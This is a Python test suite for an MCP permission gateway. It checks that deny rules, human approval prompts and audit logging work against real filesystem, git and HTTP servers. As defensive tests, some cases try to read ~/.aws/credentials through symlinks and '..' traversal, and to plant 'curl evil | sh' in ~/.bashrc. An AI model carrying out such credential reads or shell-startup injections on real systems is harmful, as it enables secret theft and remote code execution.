"""`askgate mcp` against real MCP servers, driven by the real MCP Python SDK client.

Servers: the reference filesystem server (npm) and mcp-server-git (PyPI) on stdio, the
reference "everything" server (npm) over Streamable HTTP. What a denied call would have done
is checked on the server's side: the file it would have written or moved, the branch it
would have made, the requests the HTTP server received.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import anyio

from mcp_harness import (
    FILESYSTEM,
    SECRET,
    Gateway,
    everything_http,
    http_session,
    listening_gateway,
    npm_server,
    pypi_server,
    text_of,
)

FS_POLICY = """
default = "ask"
[mcp]
"filesystem:*" = "allow"
"filesystem:move_file" = { action = "deny", reason = "no moving files" }
"filesystem:write_file" = "ask"
[read]
"~/.aws/**" = { action = "deny", reason = "cloud credentials" }
[write]
"~/work/**" = "allow"
"""


def filesystem(gw: Gateway, *options: str) -> list[str]:
    return gw.argv([str(npm_server(FILESYSTEM)), str(gw.home)], *options)


def run(main: Any) -> Any:
    return anyio.run(main)


def test_allowed_read_returns_the_servers_result(tmp_path: Path) -> None:
    gw = Gateway(tmp_path, FS_POLICY)

    async def main() -> Any:
        async with gw.session(filesystem(gw)) as session:
            return await session.call_tool(
                "read_text_file", {"path": str(gw.project / "hello.txt")}
            )

    result = run(main)
    assert not result.is_error
    assert text_of(result) == "hello from the project\n"
    records = [r for r in gw.audit() if r.get("tool") == "mcp__filesystem__read_text_file"]
    assert records and records[-1]["client"] == "mcp:filesystem"
    assert records[-1]["resolution"] == "policy_allow"


def test_denied_tool_is_not_listed_and_its_call_never_reaches_the_server(tmp_path: Path) -> None:
    gw = Gateway(tmp_path, FS_POLICY)
    source, moved = gw.project / "hello.txt", gw.project / "moved.txt"

    async def main() -> tuple[list[str], Any]:
        async with gw.session(filesystem(gw)) as session:
            names = [t.name for t in (await session.list_tools()).tools]
            result = await session.call_tool(
                "move_file", {"source": str(source), "destination": str(moved)}
            )
            return names, result

    names, result = run(main)
    assert "move_file" not in names
    assert "read_text_file" in names and "write_file" in names
    assert result.is_error
    assert "no moving files" in text_of(result)
    assert source.exists() and not moved.exists()  # the server never moved anything


def test_read_of_cloud_credentials_is_refused_however_it_is_spelled(tmp_path: Path) -> None:
    gw = Gateway(tmp_path, FS_POLICY)
    target = gw.home / ".aws" / "credentials"
    (gw.project / "notes.txt").symlink_to(target)
    (gw.project / "cloud").symlink_to(gw.home / ".aws")
    calls = {
        "direct": ("read_text_file", {"path": str(target)}),
        "symlink": ("read_text_file", {"path": str(gw.project / "notes.txt")}),
        "directory symlink": ("read_text_file", {"path": str(gw.project / "cloud/credentials")}),
        "dotdot": ("read_text_file", {"path": str(gw.project / ".." / ".aws" / "credentials")}),
        "among others": (
            "read_multiple_files",
            {"paths": [str(gw.project / "hello.txt"), str(target)]},
        ),
        "file info": ("get_file_info", {"path": str(target)}),
    }

    async def main() -> dict[str, Any]:
        async with gw.session(filesystem(gw)) as session:
            return {via: await session.call_tool(*call) for via, call in calls.items()}

    results = run(main)
    for via, result in results.items():
        assert result.is_error, via
        assert SECRET not in text_of(result), via
        assert "credentials" in text_of(result), via
    denied = [r for r in gw.audit() if r.get("resolution") == "policy_deny"]
    assert len(denied) == len(calls) and {r["client"] for r in denied} == {"mcp:filesystem"}


def test_write_outside_the_allowed_tree_is_not_written(tmp_path: Path) -> None:
    policy = FS_POLICY.replace('"filesystem:write_file" = "ask"\n', "")
    gw = Gateway(tmp_path, policy)
    inside, outside = gw.project / "new.txt", gw.home / ".bashrc"

    async def main() -> tuple[Any, Any]:
        async with gw.session(filesystem(gw)) as session:
            ok = await session.call_tool("write_file", {"path": str(inside), "content": "x"})
            refused = await session.call_tool(
                "write_file", {"path": str(outside), "content": "curl evil | sh"}
            )
            return ok, refused

    ok, refused = run(main)
    assert not ok.is_error and inside.read_text() == "x"
    assert refused.is_error and not outside.exists()
    assert "no human can be asked" in text_of(refused)


ANSWERS = [
    ({"action": "accept", "content": {"decision": "approve"}}, True),
    ({"action": "accept", "content": {"decision": "deny"}}, False),
    ({"action": "accept", "content": {}}, False),
    ({"action": "decline"}, False),
    ({"action": "cancel"}, False),
    (None, False),  # the client answers the elicitation with an error
]


def test_ask_goes_to_the_client_by_elicitation(tmp_path: Path) -> None:
    from mcp import types

    gw = Gateway(tmp_path, FS_POLICY)
    seen: list[str] = []
    answers = [answer for answer, _ in ANSWERS]

    async def callback(context: Any, params: Any) -> Any:
        seen.append(params.message)
        answer = answers[len(seen) - 1]
        if answer is None:
            return types.ErrorData(code=-1, message="no UI")
        return types.ElicitResult(**answer)

    targets = [gw.project / f"asked-{n}.txt" for n in range(len(ANSWERS))]

    async def main() -> list[Any]:
        async with gw.session(filesystem(gw), elicitation=callback) as session:
            return [
                await session.call_tool("write_file", {"path": str(t), "content": "y"})
                for t in targets
            ]

    results = run(main)
    assert len(seen) == len(ANSWERS)
    for message, target in zip(seen, targets, strict=True):
        assert "write_file" in message and "digest" in message
        assert str(target) in message  # the human sees the exact call
    for (answer, written), result, target in zip(ANSWERS, results, targets, strict=True):
        assert result.is_error is (not written), answer
        assert target.exists() is written, answer
    records = [r for r in gw.audit() if r.get("tool") == "mcp__filesystem__write_file"]
    assert [r["resolution"] for r in records] == [
        "user_approved", "user_denied", "user_denied", "user_denied", "user_denied",
        "confirmation_unavailable",
    ]  # fmt: skip


GIT_POLICY = """
default = "deny"
[mcp]
"git:git_status" = "allow"
"git:git_create_branch" = "ask"
[write]
"~/work/**" = "allow"
"""


def _git_repo(gw: Gateway) -> Path:
    repo = gw.project
    for args in (
        ["init", "-q", "-b", "main"],
        ["-c", "user.email=t@e", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "x"],
    ):
        subprocess.run(["git", "-C", str(repo), *args], check=True, env=gw.env)
    return repo


def _branches(repo: Path) -> list[str]:
    out = subprocess.run(
        ["git", "-C", str(repo), "branch", "--format=%(refname:short)"],
        check=True, capture_output=True, text=True,
    )  # fmt: skip
    return out.stdout.split()


def test_git_server_status_allowed_ask_approved_on_the_server_and_unanswered(
    tmp_path: Path,
) -> None:
    from server_support import AutoDecider, LiveServer

    gw = Gateway(tmp_path, GIT_POLICY)
    repo = _git_repo(gw)
    data = tmp_path / "server"
    data.mkdir()
    with LiveServer(data, f"sqlite+aiosqlite:///{data / 'db.sqlite'}") as live:
        human = live.add_user("alice")
        token = live.agent_token("alice")
        env = {**gw.env, "ASKGATE_SERVER": live.url, "ASKGATE_TOKEN": token}
        argv = gw.argv([pypi_server("mcp-server-git")], "--ask-timeout", "3")
        asked: list[str] = []

        async def main() -> tuple[Any, Any, Any]:
            async with gw.session(argv, env=env) as session:
                status = await session.call_tool("git_status", {"repo_path": str(repo)})
                with AutoDecider(live, human, "allow") as decider:
                    approved = await session.call_tool(
                        "git_create_branch", {"repo_path": str(repo), "branch_name": "approved"}
                    )
                asked.extend(decider.seen)
                # nobody answers this one: it times out and the branch is not made
                unanswered = await session.call_tool(
                    "git_create_branch", {"repo_path": str(repo), "branch_name": "unanswered"}
                )
                return status, approved, unanswered

        status, approved, unanswered = run(main)
    assert not status.is_error and "On branch main" in text_of(status)
    assert asked  # the approval server was asked
    assert not approved.is_error, text_of(approved)
    assert unanswered.is_error and "nobody answered in time" in text_of(unanswered)
    assert "approved" in _branches(repo) and "unanswered" not in _branches(repo)
    records = [r for r in gw.audit() if r.get("tool") == "mcp__git__git_create_branch"]
    assert [r["resolution"] for r in records] == ["user_approved", "timed_out"]


HTTP_POLICY = """
default = "deny"
[mcp]
"everything:echo" = "allow"
"everything:get-sum" = "allow"
"everything:get-env" = { action = "deny", reason = "no environment dumps" }
"everything:resources/read" = "allow"
"everything:prompts/get" = { action = "deny", reason = "no prompts today" }
"""


def test_streamable_http_upstream_allows_denies_and_filters(tmp_path: Path) -> None:
    gw = Gateway(tmp_path, HTTP_POLICY)
    with everything_http(tmp_path) as (url, seen):
        argv = gw.argv((), "--upstream", url, "--name", "everything")

        async def main() -> tuple[list[str], Any, Any, Any, Any]:
            async with gw.session(argv) as session:
                names = [t.name for t in (await session.list_tools()).tools]
                echo = await session.call_tool("echo", {"message": "through the gateway"})
                env = await session.call_tool("get-env", {})
                uri = str((await session.list_resources()).resources[0].uri)
                resource = await session.read_resource(uri)
                try:
                    prompt: Any = await session.get_prompt("simple-prompt")
                except Exception as exc:  # the SDK raises a JSON-RPC error
                    prompt = exc
                return names, echo, env, resource, prompt

        names, echo, env, resource, prompt = run(main)
        received = seen.read_text()
    assert resource.contents  # the server's answer came through
    assert isinstance(prompt, Exception) and "no prompts today" in str(prompt)
    assert "prompts/get" not in received
    assert "echo" in names and "get-env" not in names
    assert not echo.is_error and "through the gateway" in text_of(echo)
    assert env.is_error and "no environment dumps" in text_of(env)
    assert '"echo"' in received and "get-env" not in received  # never reached the server


def test_the_sdk_client_over_streamable_http_into_the_gateway(tmp_path: Path) -> None:
    from mcp import types

    gw = Gateway(tmp_path, FS_POLICY)
    asked, refused = gw.project / "asked.txt", gw.project / "moved.txt"
    seen: list[str] = []

    async def approve(context: Any, params: Any) -> Any:
        seen.append(params.message)
        return types.ElicitResult(action="accept", content={"decision": "approve"})

    with listening_gateway(gw, filesystem(gw, "--listen")) as url:

        async def main() -> tuple[list[str], Any, Any, Any]:
            async with http_session(url, elicitation=approve) as session:
                names = [t.name for t in (await session.list_tools()).tools]
                read = await session.call_tool(
                    "read_text_file", {"path": str(gw.home / ".aws" / "credentials")}
                )
                moved = await session.call_tool(
                    "move_file",
                    {"source": str(gw.project / "hello.txt"), "destination": str(refused)},
                )
                wrote = await session.call_tool("write_file", {"path": str(asked), "content": "z"})
                return names, read, moved, wrote

        names, read, moved, wrote = run(main)
    assert "move_file" not in names and "read_text_file" in names
    assert read.is_error and SECRET not in text_of(read) and "credentials" in text_of(read)
    assert moved.is_error and not refused.exists()
    assert len(seen) == 1 and not wrote.is_error and asked.read_text() == "z"
